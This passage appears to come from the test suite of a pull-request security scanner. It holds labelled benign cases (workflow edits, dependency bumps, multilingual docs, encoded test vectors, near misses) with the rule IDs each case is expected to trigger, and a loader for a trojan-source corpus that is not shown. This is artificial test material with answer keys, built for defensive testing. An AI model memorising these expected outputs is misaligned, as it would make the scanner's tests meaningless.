    base: { [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@b4ffde65f46336ab88eb53be808477a3936bae11 # v4.1.1\n` },
    head: { [`${WF}/ci.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n` },
    author: { name: 'dependabot[bot]', email: '49699333+dependabot[bot]@users.noreply.github.com' },
    expect: [],
    also: ['meta/governance-edit']
  },
  {
    name: 'documentation in many languages',
    label: 'benign',
    head: {
      'docs/fr/index.md': 'Bienvenue\u00a0! Voici la documentation de «\u00a0pkg\u00a0» : installation, utilisation, éléments clés.\n',
      'docs/zh/index.md': '欢迎使用 pkg。本文档介绍安装和使用方法。\n',
      'docs/ja/index.md': 'pkg へようこそ。インストール方法と使い方を説明します。\n',
      'docs/ru/index.md': 'Добро пожаловать в pkg. Это документация по установке и использованию.\n',
      'docs/ar/index.md': 'مرحبا بكم في pkg\u200f. هذا هو التوثيق.\n',
      'docs/he/index.md': 'ברוכים הבאים ל-pkg.\n',
      'docs/emoji.md': 'Thanks to all contributors 👩‍🔬 🧑🏽‍💻 ❤️ 🏳️‍🌈\n'
    },
    expect: []
  },
  {
    name: 'ordinary bug fix with a test',
    label: 'benign',
    meta: { headRef: 'fix/empty-mean' },
    base: { 'src/pkg/core.py': 'def mean(xs):\n    return sum(xs) / len(xs)\n' },
    head: { 'src/pkg/core.py': 'def mean(xs):\n    if not xs:\n        raise ValueError("empty input")\n    return sum(xs) / len(xs)\n', 'tests/test_core.py': 'import pytest\nfrom pkg.core import mean\n\ndef test_empty():\n    with pytest.raises(ValueError):\n        mean([])\n' },
    expect: []
  },
  {
    name: 'new well-known dependency',
    label: 'benign',
    base: { 'pyproject.toml': '[project]\nname = "pkg"\nversion = "1.0"\ndependencies = ["numpy>=1.26"]\n' },
    head: { 'pyproject.toml': '[project]\nname = "pkg"\nversion = "1.0"\ndependencies = ["numpy>=1.26", "scipy>=1.11"]\n' },
    expect: [],
    also: ['deps/new-dependency']
  },
  {
    name: 'PNG figure for the docs',
    label: 'benign',
    head: { 'docs/_static/logo.png': png, 'docs/index.rst': '.. image:: _static/logo.png\n' },
    expect: []
  },
  {
    name: 'conftest fixture without processes',
    label: 'benign',
    base: { 'tests/conftest.py': 'import pytest\n' },
    head: { 'tests/conftest.py': 'import pytest\nimport numpy as np\n\n@pytest.fixture\ndef rng():\n    return np.random.default_rng(42)\n' },
    expect: []
  },
  {
    name: 'CMake adds a library target',
    label: 'benign',
    base: { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.15)\nproject(pkg C)\n' },
    head: { 'CMakeLists.txt': 'cmake_minimum_required(VERSION 3.15)\nproject(pkg C)\nadd_library(_core MODULE src/core.c)\ntarget_compile_options(_core PRIVATE -O2)\n' },
    expect: []
  },
  {
    name: 'new pull_request test workflow, pinned and read-only',
    label: 'benign',
    head: { [`${WF}/tests.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: pip install -e . && pytest\n` },
    expect: [],
    also: ['meta/governance-edit']
  },
  {
    name: 'comments in Chinese and French in code, hash test vectors',
    label: 'benign',
    head: {
      'src/pkg/io.py': '# 读取数据文件 — lecture des fichiers de données\ndef read(path):\n    """Lit le fichier « path »."""\n    return open(path, "rb").read()\n',
      'tests/test_hash.py': 'VECTORS = {\n    "abc": "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad",\n}\n'
    },
    expect: []
  },
  {
    name: 'setup.py reads the version from a file',
    label: 'benign',
    base: { 'setup.py': 'from setuptools import setup\nsetup(name="pkg")\n' },
    head: { 'setup.py': 'from pathlib import Path\nfrom setuptools import setup\n\nversion = Path("VERSION").read_text().strip()\nsetup(name="pkg", version=version)\n' },
    expect: []
  },
  {
    name: 'coverage upload with the Codecov token',
    label: 'benign',
    base: { [`${WF}/tests.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n` },
    head: { [`${WF}/tests.yml`]: `on: pull_request\npermissions:\n  contents: read\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ${PINNED}\n      - uses: codecov/codecov-action@1e68e06f1dbfde0e4cefc87efeba9e4643565303 # v5.1.2\n        with:\n          token: \${{ secrets.CODECOV_TOKEN }}\n          files: https://codecov.io/coverage.xml\n` },
    expect: [],
    also: ['meta/governance-edit']
  },
  {
    name: 'base64 test vector and zlib round trip in tests',
    label: 'benign',
    head: {
      'tests/test_codec.py': `import base64, zlib\n\nDATA = b"hello world" * 3\n\ndef test_roundtrip():\n    assert zlib.decompress(zlib.compress(DATA)) == DATA\n    assert base64.b64decode(base64.b64encode(DATA)) == DATA\n`
    },
    expect: []
  },
  {
    name: 'SVG icon and a JSON fixture',
    label: 'benign',
    head: {
      'docs/_static/icon.svg': '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><path d="M0 0h10v10H0z"/></svg>\n',
      'tests/data/sample.json': JSON.stringify({ values: Array.from({ length: 50 }, (_, i) => i * 0.5), name: 'Ångström' }) + '\n'
    },
    expect: []
  },
  {
    name: 'meson adds a configure_file from a template',
    label: 'benign',
    base: { 'meson.build': "project('pkg', 'c')\n" },
    head: { 'meson.build': "project('pkg', 'c')\nconf = configuration_data()\nconf.set('VERSION', meson.project_version())\nconfigure_file(input: 'version.h.in', output: 'version.h', configuration: conf)\n" },
    expect: []
  },
  {
    name: 'NumPy-style dtype strings and a Cython module',
    label: 'benign',
    head: { 'src/pkg/_fast.pyx': 'cimport numpy as cnp\n\ndef add(cnp.float64_t[:] a, cnp.float64_t[:] b):\n    cdef Py_ssize_t i\n    for i in range(a.shape[0]):\n        a[i] += b[i]\n' },
    expect: []
  },
  {
    name: 'verified Dependabot commit from a long-standing maintainer account',
    label: 'benign',
    head: { 'requirements.txt': 'numpy==2.1.3\n' },
    base: { 'requirements.txt': 'numpy==2.1.2\n' },
    author: { name: 'dependabot[bot]', email: '49699333+dependabot[bot]@users.noreply.github.com' },
    meta: { author: 'maint', association: 'MEMBER' },
    api: { accountAgeDays: 3000, verified: true },
    expect: []
  },
  {
    name: 'member edits pyproject metadata',
    label: 'benign',
    base: { 'pyproject.toml': '[project]\nname = "pkg"\nversion = "1.0"\n' },
    head: { 'pyproject.toml': '[project]\nname = "pkg"\nversion = "1.1"\ndescription = "Fast statistics"\n' },
    meta: { author: 'maint', association: 'MEMBER' },
    expect: []
  },
  // Near misses: each rule's own boundary, on the quiet side.
  {
    name: 'PR title reaches a script through env, not interpolated',
    label: 'benign',
    head: { [`${WF}/greet.yml`]: 'on: pull_request\npermissions:\n  contents: read\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - env:\n          TITLE: ${{ github.event.pull_request.title }}\n        run: echo "$TITLE"\n' },
    expect: [],
    also: ['meta/governance-edit']
  },
  {
    name: 'self-hosted GPU runner on pushes to main only',
    label: 'benign',
    head: { [`${WF}/gpu.yml`]: `on:\n  push:\n    branches: [main]\npermissions:\n  contents: read\njobs:\n  gpu:\n    runs-on: [self-hosted, gpu]\n    steps:\n      - uses: ${PINNED}\n        with:\n          persist-credentials: false\n      - run: pytest tests/gpu\n` },
    expect: [],
    // A self-hosted runner no PR reaches is still said, at low (the audit reports every self-hosted job).
    also: ['meta/governance-edit', 'workflow/self-hosted-runner']
  },
  {
    name: 'configure.ac gains a comment only',
    label: 'benign',
    base: { 'configure.ac': 'AC_INIT([pkg], [1.0])\nAC_PROG_CC\nAC_OUTPUT\n' },
    head: { 'configure.ac': 'AC_INIT([pkg], [1.0])\ndnl Keep the version in sync with pyproject.toml.\nAC_PROG_CC\nAC_OUTPUT\n' },
    expect: []
  },
  {
    name: 'pre-commit hook bumped and added from pinned upstream repositories',
    label: 'benign',
    base: { '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.8.0\n    hooks:\n      - id: ruff\n' },
    head: { '.pre-commit-config.yaml': 'repos:\n  - repo: https://github.com/astral-sh/ruff-pre-commit\n    rev: v0.9.1\n    hooks:\n      - id: ruff\n  - repo: https://github.com/pre-commit/pre-commit-hooks\n    rev: v5.0.0\n    hooks:\n      - id: end-of-file-fixer\n' },
    expect: []
  },
  {
    name: 'subprocess called inside a function',
    label: 'benign',
    head: { 'src/pkg/_git.py': 'import subprocess\n\n\ndef git_version():\n    return subprocess.run(["git", "--version"], capture_output=True, text=True).stdout\n' },
    expect: []
  },
  {
    name: 'alphabet computed with chr() and ord()',
    label: 'benign',
    head: { 'src/pkg/letters.py': 'LETTERS = "".join(chr(ord("a") + i) for i in range(26))\nFIRST = chr(65) + chr(66)\n' },
    expect: []
  },
  {
    name: 'bundled dist/index.js rebuilt with an ordinary change',
    label: 'benign',
    base: { 'dist/index.js': '"use strict";\nmodule.exports = function main() { return 1; };\n' },
    head: { 'dist/index.js': '"use strict";\nmodule.exports = function main() { return 1; };\nfunction add(a, b) { return a + b; }\nmodule.exports.add = add;\n' },
    expect: []
  },
  {
    name: 'VS Code test task without auto-run',
    label: 'benign',
    head: { '.vscode/tasks.json': '{\n  "version": "2.0.0",\n  "tasks": [{"label": "test", "type": "shell", "command": "pytest"}]\n}\n' },
    expect: []
  },
  {
    name: 'file keeps the inline ignore its base already had',
    label: 'benign',
    base: { 'src/pkg/vectors.py': `# pr-anomaly-scan: ignore[obfuscation/long-encoded-literal] RFC 4648 test vector\nV = "${Buffer.from(Array.from({ length: 200 }, (_, i) => (i * 7) & 0xff)).toString('base64')}"\n` },
    head: { 'src/pkg/vectors.py': `# pr-anomaly-scan: ignore[obfuscation/long-encoded-literal] RFC 4648 test vector\nV = "${Buffer.from(Array.from({ length: 200 }, (_, i) => (i * 7) & 0xff)).toString('base64')}"\nW = 1\n` },
    expect: []
  },
  {
    name: 'JavaScript docs widget with emoji',
    label: 'benign',
    head: { 'docs/_static/widget.js': 'const label = "Copy ✂️";\nexport function copy(text) { return navigator.clipboard.writeText(text); }\n' },
    expect: []
  }
];

/** The anti-trojan-source corpus: each file added by a PR; true-* must be flagged by a Unicode rule, false-* must not. */
export function trojanSourceCases(): Case[] {
  const dir = resolve(REPO_ROOT, '..', 'shared', 'corpora', 'anti-trojan-source');
  return readdirSync(dir)
    .filter((f) => /^(true|false)-/.test(f))
    .map((f) => {
      const malicious = f.startsWith('true-');
      const rule = /homoglyph/.test(f) ? 'unicode/homoglyph' : /trojan-source/.test(f) ? 'unicode/bidi-control' : 'unicode/invisible-character';
      return { name: `anti-trojan-source ${f}`, label: malicious ? 'malicious' : 'benign', head: { [`src/${f}`]: readFileSync(join(dir, f)) }, expect: malicious ? [rule] : [] } as Case;
    });
}
